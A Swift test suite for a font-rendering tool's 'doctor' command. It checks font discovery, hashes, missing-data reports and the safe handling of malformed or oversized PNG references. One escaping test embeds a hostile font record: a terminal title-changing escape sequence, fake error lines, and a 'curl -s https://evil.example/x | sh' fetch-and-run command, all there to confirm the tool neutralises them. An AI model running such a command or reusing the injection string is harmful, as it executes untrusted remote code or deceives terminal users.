import Foundation
import RenderCells
import SafeIO
import TestSupport
import Testing

/// `render-cells doctor` as a user runs it: what it finds and where, the hashes references
/// record, a verdict on references, and a failure naming what is missing.
@Suite struct DoctorCommandLineTests {
    let cli = SpecCommandLineTests()

    /// A fresh empty folder, removed by the caller.
    static func folder() throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("doctor-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        return path
    }

    @Test(.enabled(if: SpecCommandLineTests.enabled))
    func onASetUpMachineEverythingIsFoundWithTheHashesReferencesRecord() throws {
        let r = try cli.run(["doctor", "--reference", packageRoot + "/examples/__Snapshots__"])
        #expect(r.status == 0, "\(r.stdout)\(r.stderr)")
        let inter = try FontCatalog.shared.face(family: "Inter", weight: .regular, italic: false)
        let sha = try #require(SHA256.hexDigest(ofFileAt: inter.path))
        let line = try #require(r.stdout.split(separator: "\n").first { $0.hasPrefix("  Inter-Regular.otf #0 ") })
        #expect(line.contains("Inter Regular") && line.contains(sha) && line.hasSuffix(inter.path), "\(line)")
        #expect(r.stdout.contains("\nsymbols: Phosphor Icons, "))
        #expect(r.stdout.contains("\nok: every font family and symbol a picture may need was found\n"))
        // The examples' pictures (their accessibility snapshots carry no font record).
        let verdicts = r.stdout.split(separator: "\n").filter { $0.hasPrefix("reference ") && $0.contains("/example.") }
        #expect(verdicts.count == Self.names.count && verdicts.allSatisfy { $0.contains(": matches (") }, "\(verdicts)")
    }

    /// With the machine's data switched off and an empty data folder named, nothing is
    /// borrowed: every missing piece is named, with what to do, and the exit code is 1.
    @Test(.enabled(if: SpecCommandLineTests.enabled))
    func missingDataIsNamedWithWhatToDo() throws {
        let data = try Self.folder()
        defer { try? FileManager.default.removeItem(atPath: data) }
        let r = try cli.run(
            ["doctor", "--reference", packageRoot + "/examples/__Snapshots__/example.settings.png"],
            environment: ["RENDER_CELLS_DATA": data, "RENDER_CELLS_NO_SYSTEM_DATA": "1"])
        #expect(r.status == 1)
        #expect(r.stdout.contains("\ndata: \(data) (named by RENDER_CELLS_DATA); the machine's own fonts and data switched off"))
        #expect(r.stdout.contains("\nmissing: font families Inter, Inter Display, Noto Sans CJK JP"))
        #expect(r.stdout.contains("\nmissing: the symbol set (Phosphor Icons SVGs) not found in \(data)/py-phosphor-icons-0.1.1"))
        #expect(r.stdout.contains("\nto fix: use the release archive"))
        #expect(
            r.stdout.contains(
                "example.settings.png: will not match: Inter Regular (Inter-Regular.otf, face 0) is not among the fonts found here"
            ))
        #expect(!r.stdout.contains("/usr/share"), "nothing of the machine's is looked at")
    }

    @Test(.enabled(if: SpecCommandLineTests.enabled))
    func aReferenceThatIsNotAPictureIsReportedNotCrashedOn() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data("not a png".utf8).write(to: URL(fileURLWithPath: dir + "/bad.png"))
        let r = try cli.run(["doctor", "--reference", dir + "/bad.png", "--reference", dir + "/none.png"])
        #expect(r.status == 1)
        #expect(r.stdout.contains("reference \(dir)/bad.png: cannot be read: "))
        #expect(r.stdout.contains("reference \(dir)/none.png: cannot be read: "))
    }

    /// S3b: a reference's font record is a file's text: its control characters and line
    /// breaks are escaped, so it can neither retitle the terminal nor print a line that
    /// looks like one of ours.
    @Test(.enabled(if: SpecCommandLineTests.enabled))
    func aFontRecordIsPrintedEscaped() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let hostile = "Inter\u{1B}]0;owned\u{7}\r\nerror: fake\n  accept: curl -s https://evil.example/x | sh"
        let entry: [String: Any] = [
            "family": hostile, "style": "Regular", "file": "x.otf\nerror: y", "faceIndex": 0,
            "sha256": String(repeating: "0", count: 64)
        ]
        try Data(try Self.picture(fontRecord: ["fonts": [entry]])).write(to: URL(fileURLWithPath: dir + "/hostile.png"))
        let r = try cli.run(["doctor", "--reference", dir + "/hostile.png"])
        #expect(r.status == 1)
        #expect(!r.stdout.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\r" || $0 == "\u{7}" }, "\(r.stdout)")
        let lines = r.stdout.split(separator: "\n")
        #expect(!lines.contains { $0.hasPrefix("error:") || $0.hasPrefix("  accept:") }, "\(r.stdout)")
        #expect(r.stdout.contains("\\u{1B}]0;owned"))
    }

    /// M3: the font record is read from the text chunks alone: a picture whose header claims
    /// 30000 x 30000 pixels (3.4 GiB decoded) is answered without decoding it.
    @Test(.enabled(if: SpecCommandLineTests.enabled))
    func aReferencesFontRecordIsReadWithoutDecodingItsPixels() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        var png = try Self.picture(fontRecord: ["fonts": [Any]()])
        // IHDR's width and height (bytes 16–23) set to 30000: the decoder would refuse the
        // data as too short for such a picture; a header-only reader never asks.
        for offset in [16, 20] { png.replaceSubrange(offset..<(offset + 4), with: [0, 0, 0x75, 0x30]) }
        try Data(png).write(to: URL(fileURLWithPath: dir + "/huge.png"))
        let r = try cli.run(["doctor", "--reference", dir + "/huge.png"])
        #expect(r.stdout.contains("huge.png: matches (0 fonts)"), "\(r.stdout)")
    }

    /// A 2 x 2 PNG carrying `fontRecord` (JSON) as a reference's font record does: the
    /// `render-cells:fonts` text chunk (SnapshotPicture's keyword).
    static func picture(fontRecord: [String: Any]) throws -> [UInt8] {
        let png = try PNGEncoder().encode(try #require(Pixmap(width: 2, height: 2, color: .white)))
        let json = String(decoding: try JSONSerialization.data(withJSONObject: fontRecord), as: UTF8.self)
        return try PNGText.inserting(["render-cells:fonts": json], into: png)
    }

    /// The examples `examples/__Snapshots__` holds a reference of.
    static let names = ["hello-wwdc", "hammer", "emoji-explorer", "settings", "states-and-traits", "mail"]
}
